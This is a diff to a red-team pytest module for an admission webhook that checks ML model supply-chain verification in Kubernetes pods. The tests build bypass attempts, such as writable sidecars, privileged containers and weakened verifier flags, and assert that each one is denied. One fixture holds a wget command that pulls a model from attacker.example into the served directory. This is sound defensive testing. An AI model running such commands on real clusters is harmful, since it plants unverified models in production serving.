@@ -11,40 +11,30 @@ from __future__ import annotations
 
 import copy
 import json
-import sqlite3
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from mlgate.subjects.base import normalize_uri
-from mlgate.supplychain.modeldir import model_digest
-from webhook_support import EXAMPLES, Server, credit_scorer_evidence, issue_certs, review
+from webhook_support import (
+    ATTESTED_URI,
+    MODELS_RO,
+    RELEASE_BOT,
+    VERIFIER_DIGEST,
+    Server,
+    denied_controls,
+    verifier_container,
+    warned_controls,
+)
 
-MODEL = EXAMPLES / "models" / "credit-scorer"
-ATTESTED_URI = "s3://ml-models-prod/credit-scorer/0.9.2"
-RELEASE = {"username": "release-bot", "groups": ["mlops-release-managers", "system:authenticated"]}
-VERIFIER_DIGEST = "sha256:" + "5e" * 32
-PINNED = f"ghcr.io/mlgate/mlgate-verifier:0.1.0@{VERIFIER_DIGEST}"
-MODELS = {"name": "models", "mountPath": "/models", "readOnly": True}
-
-
-@pytest.fixture(scope="module")
-def digest() -> str:
-    return model_digest(MODEL)
-
-
-@pytest.fixture(scope="module")
-def evidence(digest: str) -> dict[str, str]:
-    return credit_scorer_evidence(digest)
+# With test_binding_webhook / test_redteam_pod_start on one worker: one shipped_server for both.
+pytestmark = pytest.mark.xdist_group("shipped-server")
 
 
 @pytest.fixture(scope="module")
-def server(tmp_path_factory: pytest.TempPathFactory) -> Any:
-    work = tmp_path_factory.mktemp("redteam-pod-start")
-    srv = Server(work, issue_certs(work / "certs")).start()
-    yield srv
-    srv.stop()
+def server(shipped_server: Server) -> Server:
+    return shipped_server
 
 
 def fetch() -> dict[str, Any]:
@@ -56,17 +46,8 @@ def fetch() -> dict[str, Any]:
     }
 
 
-def verify(digest: str, **extra: Any) -> dict[str, Any]:
-    container = {
-        "name": "verify-model",
-        "image": PINNED,
-        "args": ["--model-dir", "/models", "--storage-uri", ATTESTED_URI, "--expect-digest", digest],
-        "volumeMounts": [dict(MODELS)],
-        # trust.yaml is scoped by namespace: the check runs in the pod's own
-        "env": [{"name": "POD_NAMESPACE",
-                 "valueFrom": {"fieldRef": {"fieldPath": "metadata.namespace"}}}],
-    }  # fmt: skip
-    return {**container, **extra}
+def verify(credit_digest: str, **extra: Any) -> dict[str, Any]:
+    return verifier_container(credit_digest, **extra)
 
 
 def serve(*args: str, mounts: list[dict[str, Any]] | None = None) -> dict[str, Any]:
@@ -74,13 +55,13 @@ def serve(*args: str, mounts: list[dict[str, Any]] | None = None) -> dict[str, A
         "name": "server",
         "image": "registry.example/ml/onnx-server:1.4",
         "args": list(args or ("--model", "/models")),
-        "volumeMounts": [dict(MODELS)] if mounts is None else mounts,
+        "volumeMounts": [dict(MODELS_RO)] if mounts is None else mounts,
     }
 
 
 def pod(
-    evidence: dict[str, str],
-    digest: str,
+    credit_evidence: dict[str, str],
+    credit_digest: str,
     *,
     init: list[dict[str, Any]] | None = None,
     containers: list[dict[str, Any]] | None = None,
@@ -96,9 +77,9 @@ def pod(
             "replicas": 1,
             "selector": {"matchLabels": {"app": "credit"}},
             "template": {
-                "metadata": {"labels": {"app": "credit"}, "annotations": dict(evidence)},
+                "metadata": {"labels": {"app": "credit"}, "annotations": dict(credit_evidence)},
                 "spec": {
-                    "initContainers": [fetch(), verify(digest)] if init is None else init,
+                    "initContainers": [fetch(), verify(credit_digest)] if init is None else init,
                     "containers": [serve()] if containers is None else containers,
                     "volumes": [{"name": "models", "emptyDir": {}}] if volumes is None else volumes,
                 },
@@ -107,42 +88,26 @@ def pod(
     }
 
 
-def decide(server: Server, obj: dict[str, Any]) -> dict[str, Any]:
-    r = server.validate(review(obj, user=RELEASE))
-    assert r.status_code == 200, r.text
-    return r.json()["response"]
-
-
-def denied(resp: dict[str, Any]) -> set[str]:
-    raw = resp.get("auditAnnotations", {}).get("denied-controls", "")
-    return {c for c in raw.split(",") if c}
-
-
-def warned(resp: dict[str, Any]) -> set[str]:
-    raw = resp.get("auditAnnotations", {}).get("warned-controls", "")
-    return {c for c in raw.split(",") if c}
-
-
-def explanation(server: Server, resp: dict[str, Any]) -> str:
-    """The decision-log record of a response (every violation's whole message)."""
-    decision_id = resp["auditAnnotations"]["decision-id"]
-    with sqlite3.connect(server.audit_db) as conn:
-        bodies = [row[0] for row in conn.execute("SELECT body FROM records")]
-    return next(b for b in bodies if decision_id in b)
+def decide(
+    server: Server, obj: dict[str, Any], user: dict[str, Any] = RELEASE_BOT, **kw: Any
+) -> dict:
+    return server.decide(obj, user=user, **kw)
 
 
 def assert_denied(server: Server, resp: dict[str, Any], control: str, *needles: str) -> None:
     assert resp["allowed"] is False, resp
-    assert control in denied(resp), resp
-    record = json.loads(explanation(server, resp))
+    assert control in denied_controls(resp), resp
+    record = json.loads(server.decision_record(resp))
     messages = json.dumps([v["message"] for v in record["decision"]["violations"]
                            if v["control"] == control])  # fmt: skip
     for needle in needles:
         assert json.dumps(needle)[1:-1] in messages, (needle, messages)
 
 
-def test_the_legitimate_shape_is_allowed(server: Server, evidence: dict, digest: str) -> None:
-    resp = decide(server, pod(evidence, digest))
+def test_the_legitimate_shape_is_allowed(
+    server: Server, credit_evidence: dict, credit_digest: str
+) -> None:
+    resp = decide(server, pod(credit_evidence, credit_digest))
     assert resp["allowed"] is True, resp
 
 
@@ -158,70 +123,72 @@ def test_the_legitimate_shape_is_allowed(server: Server, evidence: dict, digest:
     ids=["remote-uri", "remote-uri-with-download-dir"],
 )
 def test_a_server_that_downloads_the_model_itself_is_not_verified(
-    server: Server, evidence: dict, digest: str, args: tuple[str, ...], needle: str
+    server: Server, credit_evidence: dict, credit_digest: str, args: tuple[str, ...], needle: str
 ) -> None:
-    resp = decide(server, pod(evidence, digest, containers=[serve(*args)]))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[serve(*args)]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", needle, "/models")
 
 
 def test_a_server_reading_another_volume_is_not_verified(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     other = serve(
         "--model", "/data", mounts=[{"name": "data", "mountPath": "/data", "readOnly": True}]
     )
     volumes = [{"name": "models", "emptyDir": {}}, {"name": "data", "emptyDir": {}}]
-    resp = decide(server, pod(evidence, digest, containers=[other], volumes=volumes))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[other], volumes=volumes))
     assert_denied(server, resp, "SC-POD-START-VERIFY", "/data", "volume 'data'")
 
 
 def test_a_server_reading_another_path_of_the_volume_is_not_verified(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
-    check = verify(digest)
+    check = verify(credit_digest)
     check["args"][1] = "/models/checked"
-    resp = decide(server, pod(evidence, digest, init=[fetch(), check],
+    resp = decide(server, pod(credit_evidence, credit_digest, init=[fetch(), check],
                               containers=[serve("--model", "/models/served")]))  # fmt: skip
     assert_denied(server, resp, "SC-POD-START-VERIFY", "/models/served", "/models/checked")
 
 
 def test_a_subpath_mount_at_the_same_path_is_another_directory(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     """Both mount /models, but the verifier sees subPath checked and the server subPath served."""
-    check = verify(digest, volumeMounts=[{**MODELS, "subPath": "checked"}])
-    srv = serve(mounts=[{**MODELS, "subPath": "served"}])
-    resp = decide(server, pod(evidence, digest, init=[fetch(), check], containers=[srv]))
+    check = verify(credit_digest, volumeMounts=[{**MODELS_RO, "subPath": "checked"}])
+    srv = serve(mounts=[{**MODELS_RO, "subPath": "served"}])
+    resp = decide(
+        server, pod(credit_evidence, credit_digest, init=[fetch(), check], containers=[srv])
+    )
     assert_denied(server, resp, "SC-POD-START-VERIFY", "served", "checked")
 
 
 def test_a_model_in_the_server_image_is_not_the_verified_volume(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     srv = serve("--model", "/opt/model", mounts=[])
-    resp = decide(server, pod(evidence, digest, containers=[srv]))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", "/opt/model")
 
 
 def test_a_model_path_in_an_environment_variable_is_read(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     srv = serve("--port", "8080")
     srv["env"] = [{"name": "MODEL_PATH", "value": "/data/model"}]
     srv["volumeMounts"].append({"name": "data", "mountPath": "/data", "readOnly": True})
     volumes = [{"name": "models", "emptyDir": {}}, {"name": "data", "emptyDir": {}}]
-    resp = decide(server, pod(evidence, digest, containers=[srv], volumes=volumes))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv], volumes=volumes))
     assert resp["allowed"] is False, resp
     assert "/data/model" in json.dumps(resp)
 
 
 def test_a_shell_command_that_loads_a_remote_model_is_read(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     srv = serve()
     srv["command"] = ["sh", "-c", f"exec vllm serve {ATTESTED_URI} --port 8000"]
     srv["args"] = []
-    resp = decide(server, pod(evidence, digest, containers=[srv]))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", f"loads {ATTESTED_URI} itself")
 
 
@@ -229,36 +196,38 @@ def test_a_shell_command_that_loads_a_remote_model_is_read(
 
 
 def test_a_sidecar_with_the_volume_writable_voids_the_check(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     sidecar = {"name": "sync", "image": "busybox:1.36", "command": ["sleep", "inf"],
                "volumeMounts": [{"name": "models", "mountPath": "/m"}]}  # fmt: skip
-    resp = decide(server, pod(evidence, digest, containers=[serve(), sidecar]))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[serve(), sidecar]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", "sync", "writable")
 
 
 def test_the_server_itself_must_mount_the_volume_read_only(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     srv = serve(mounts=[{"name": "models", "mountPath": "/models"}])
-    resp = decide(server, pod(evidence, digest, containers=[srv]))
+    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", "server", "writable")
 
 
 def test_a_sidecar_init_container_started_before_the_verifier_keeps_writing(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     """restartPolicy: Always before the verifier: it keeps running next to the server."""
     side = {**fetch(), "name": "refresh", "restartPolicy": "Always"}
-    resp = decide(server, pod(evidence, digest, init=[side, verify(digest)]))
+    resp = decide(server, pod(credit_evidence, credit_digest, init=[side, verify(credit_digest)]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", "refresh", "writable")
 
 
 def test_an_init_container_after_the_verifier_with_the_volume_writable(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     late = {**fetch(), "name": "late-fetch"}
-    resp = decide(server, pod(evidence, digest, init=[fetch(), verify(digest), late]))
+    resp = decide(
+        server, pod(credit_evidence, credit_digest, init=[fetch(), verify(credit_digest), late])
+    )
     assert_denied(server, resp, "SC-POD-START-VERIFY", "late-fetch")
 
 
@@ -269,9 +238,11 @@ def test_an_init_container_after_the_verifier_with_the_volume_writable(
     ids=["pvc", "hostpath", "nfs"],
 )  # fmt: skip
 def test_a_volume_other_pods_can_write_is_not_immutable(
-    server: Server, evidence: dict, digest: str, volume: dict[str, Any]
+    server: Server, credit_evidence: dict, credit_digest: str, volume: dict[str, Any]
 ) -> None:
-    resp = decide(server, pod(evidence, digest, volumes=[{"name": "models", **volume}]))
+    resp = decide(
+        server, pod(credit_evidence, credit_digest, volumes=[{"name": "models", **volume}])
+    )
     assert_denied(server, resp, "SC-POD-START-VERIFY", next(iter(volume)))
 
 
@@ -279,13 +250,16 @@ def test_a_volume_other_pods_can_write_is_not_immutable(
 
 
 def test_an_unpinned_verifier_image_is_denied_in_production(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
-    tag = verify(digest, image="ghcr.io/mlgate/mlgate-verifier:0.1.0")
-    resp = decide(server, pod(evidence, digest, init=[fetch(), tag]))
+    tag = verify(credit_digest, image="ghcr.io/mlgate/mlgate-verifier:0.1.0")
+    resp = decide(server, pod(credit_evidence, credit_digest, init=[fetch(), tag]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", "not pinned by digest")
-    resp = decide(server, pod(evidence, digest, init=[fetch(), tag], namespace="ml-staging"))
-    assert "SC-POD-START-VERIFY" in warned(resp) and "SC-POD-START-VERIFY" not in denied(resp)
+    resp = decide(
+        server, pod(credit_evidence, credit_digest, init=[fetch(), tag], namespace="ml-staging")
+    )
+    assert "SC-POD-START-VERIFY" in warned_controls(resp)
+    assert "SC-POD-START-VERIFY" not in denied_controls(resp)
 
 
 # -- the verifier is not told to trust or check less ---------------------------------------
@@ -304,30 +278,35 @@ def test_an_unpinned_verifier_image_is_denied_in_production(
     ids=["ignore", "policies", "environment-flag", "environment-env", "policies-env", "namespace"],
 )
 def test_a_verifier_told_to_trust_or_check_less_does_not_count(
-    server: Server, evidence: dict, digest: str, extra_args: list[str], env: list, needle: str
+    server: Server,
+    credit_evidence: dict,
+    credit_digest: str,
+    extra_args: list[str],
+    env: list,
+    needle: str,
 ) -> None:
-    check = verify(digest)
+    check = verify(credit_digest)
     check["args"] += extra_args
     check["env"] += env
-    resp = decide(server, pod(evidence, digest, init=[fetch(), check]))
+    resp = decide(server, pod(credit_evidence, credit_digest, init=[fetch(), check]))
     assert_denied(server, resp, "SC-POD-START-VERIFY", needle)
 
 
 def test_a_person_cannot_claim_a_kserve_copy_of_a_content_addressed_model(
-    server: Server, evidence: dict, digest: str
+    server: Server, credit_evidence: dict, credit_digest: str
 ) -> None:
     """The KServe source annotation, written by a deployer, names an oci digest; the server
     reads /mnt/models, which an init container of the deployer's fills."""
     annotations = {
-        **evidence,
+        **credit_evidence,
         "internal.serving.kserve.io/storage-initializer-sourceuri":
-            f"oci://registry.example.com/models/credit-scorer@{digest}",
+            f"oci://registry.example.com/models/credit-scorer@{credit_digest}",
     }  # fmt: skip
     fill = {"name": "fill", "image": "busybox:1.36",
             "command": ["sh", "-c", "wget -O /mnt/models/model.onnx http://attacker.example/m"],
             "volumeMounts": [{"name": "m", "mountPath": "/mnt/models"}]}  # fmt: skip
     srv = serve("--model_dir=/mnt/models", mounts=[{"name": "m", "mountPath": "/mnt/models"}])
-    obj = pod(annotations, digest, init=[fill], containers=[srv],
+    obj = pod(annotations, credit_digest, init=[fill], containers=[srv],
               volumes=[{"name": "m", "emptyDir": {}}])  # fmt: skip
     resp = decide(server, obj)
     assert_denied(server, resp, "SC-POD-START-VERIFY")
@@ -356,13 +335,17 @@ def test_only_case_insensitive_parts_are_folded(attested: str, deployed: str, sa
 
 
 def test_a_bucket_differing_only_in_case_is_not_the_attested_one(
-    server: Server, evidence: dict
+    server: Server, credit_evidence: dict
 ) -> None:
     uri = ATTESTED_URI.replace("ml-models-prod", "ML-Models-Prod")
     obj = {
         "apiVersion": "serving.kserve.io/v1beta1",
         "kind": "InferenceService",
-        "metadata": {"name": "credit", "namespace": "ml-prod", "annotations": dict(evidence)},
+        "metadata": {
+            "name": "credit",
+            "namespace": "ml-prod",
+            "annotations": dict(credit_evidence),
+        },
         "spec": {"predictor": {"model": {"modelFormat": {"name": "onnx"}, "storageUri": uri}}},
     }
     resp = decide(server, copy.deepcopy(obj))
@@ -370,7 +353,7 @@ def test_a_bucket_differing_only_in_case_is_not_the_attested_one(
 
 
 def test_only_trusted_verifier_builds_count_when_listed(
-    tmp_path: Path, evidence: dict, digest: str
+    tmp_path: Path, credit_evidence: dict, credit_digest: str
 ) -> None:
     """supply_chain.verifier_image_digests: a pinned build that is not listed is refused."""
     import shutil
@@ -390,10 +373,14 @@ def test_only_trusted_verifier_builds_count_when_listed(
                        namespace_labels={"mlgate.io/environment": "production"})  # fmt: skip
     engine = Engine.from_path(policies)
     try:
-        trusted = engine.evaluate_subject(subject_from_object(pod(evidence, digest), info))
+        trusted = engine.evaluate_subject(
+            subject_from_object(pod(credit_evidence, credit_digest), info)
+        )
         assert trusted.allowed is True, trusted.violations
         other = "ghcr.io/mlgate/mlgate-verifier@sha256:" + "0" * 64
-        obj = pod(evidence, digest, init=[fetch(), verify(digest, image=other)])
+        obj = pod(
+            credit_evidence, credit_digest, init=[fetch(), verify(credit_digest, image=other)]
+        )
         decision = engine.evaluate_subject(subject_from_object(obj, info))
         assert decision.denied_controls == ["SC-POD-START-VERIFY"]
         assert "is not a trusted verifier build" in decision.violations[0].message
@@ -406,16 +393,26 @@ def test_only_trusted_verifier_builds_count_when_listed(
 EVIL = "s3://attacker/evil-model"
 
 
-def beside_a_pinned_model(evidence: dict, digest: str, init=(), containers=()) -> dict:
+def beside_a_pinned_model(
+    credit_evidence: dict, credit_digest: str, init=(), containers=()
+) -> dict:
     """A content-addressed, signed model (needs no verifier) and something next to it."""
     server = serve(
-        "--model", f"oci://registry.example.com/models/credit-scorer@{digest}", mounts=[]
+        "--model", f"oci://registry.example.com/models/credit-scorer@{credit_digest}", mounts=[]
     )
-    return pod(evidence, digest, init=list(init), containers=[server, *containers], volumes=[])
+    return pod(
+        credit_evidence,
+        credit_digest,
+        init=list(init),
+        containers=[server, *containers],
+        volumes=[],
+    )
 
 
-def test_the_pinned_model_alone_is_allowed(server: Server, evidence: dict, digest: str) -> None:
-    assert decide(server, beside_a_pinned_model(evidence, digest))["allowed"] is True
+def test_the_pinned_model_alone_is_allowed(
+    server: Server, credit_evidence: dict, credit_digest: str
+) -> None:
+    assert decide(server, beside_a_pinned_model(credit_evidence, credit_digest))["allowed"] is True
 
 
 @pytest.mark.parametrize(
@@ -435,11 +432,13 @@ def test_the_pinned_model_alone_is_allowed(server: Server, evidence: dict, diges
     ids=["sidecar-claims-to-verify", "entrypoint-form-on-a-server-image", "verifier-image"],
 )  # fmt: skip
 def test_a_model_in_an_init_container_that_claims_to_verify_is_seen(
-    server: Server, evidence: dict, digest: str, hidden: Any
+    server: Server, credit_evidence: dict, credit_digest: str, hidden: Any
 ) -> None:
-    resp = decide(server, beside_a_pinned_model(evidence, digest, init=[hidden(digest)]))
+    resp = decide(
+        server, beside_a_pinned_model(credit_evidence, credit_digest, init=[hidden(credit_digest)])
+    )
     assert resp["allowed"] is False, resp
-    assert EVIL in explanation(server, resp)
+    assert EVIL in server.decision_record(resp)
 
 
 @pytest.mark.parametrize(
@@ -454,12 +453,12 @@ def test_a_model_in_an_init_container_that_claims_to_verify_is_seen(
     ids=["eval", "dollar-0-and-at", "dollar-1", "dollar-at-flags"],
 )  # fmt: skip
 def test_a_model_passed_through_shell_parameters_is_seen(
-    server: Server, evidence: dict, digest: str, command: list[str], env: list
+    server: Server, credit_evidence: dict, credit_digest: str, command: list[str], env: list
 ) -> None:
     side = {"name": "side", "image": "python:3.11", "command": command, "env": env}
-    resp = decide(server, beside_a_pinned_model(evidence, digest, containers=[side]))
+    resp = decide(server, beside_a_pinned_model(credit_evidence, credit_digest, containers=[side]))
     assert resp["allowed"] is False, resp
-    assert EVIL in explanation(server, resp)
+    assert EVIL in server.decision_record(resp)
 
 
 @pytest.mark.parametrize(
@@ -472,9 +471,16 @@ def test_a_model_passed_through_shell_parameters_is_seen(
     ids=["privileged", "hostpath"],
 )  # fmt: skip
 def test_a_container_that_reaches_the_node_can_rewrite_the_verified_copy(
-    server: Server, evidence: dict, digest: str, extra: dict, volume: dict | None, needle: str
+    server: Server,
+    credit_evidence: dict,
+    credit_digest: str,
+    extra: dict,
+    volume: dict | None,
+    needle: str,
 ) -> None:
     side = {"name": "agent", "image": "busybox:1.36", "command": ["sleep", "inf"], **extra}
     volumes = [{"name": "models", "emptyDir": {}}] + ([volume] if volume else [])
-    resp = decide(server, pod(evidence, digest, containers=[serve(), side], volumes=volumes))
+    resp = decide(
+        server, pod(credit_evidence, credit_digest, containers=[serve(), side], volumes=volumes)
+    )
     assert_denied(server, resp, "SC-POD-START-VERIFY", "'agent'", needle)
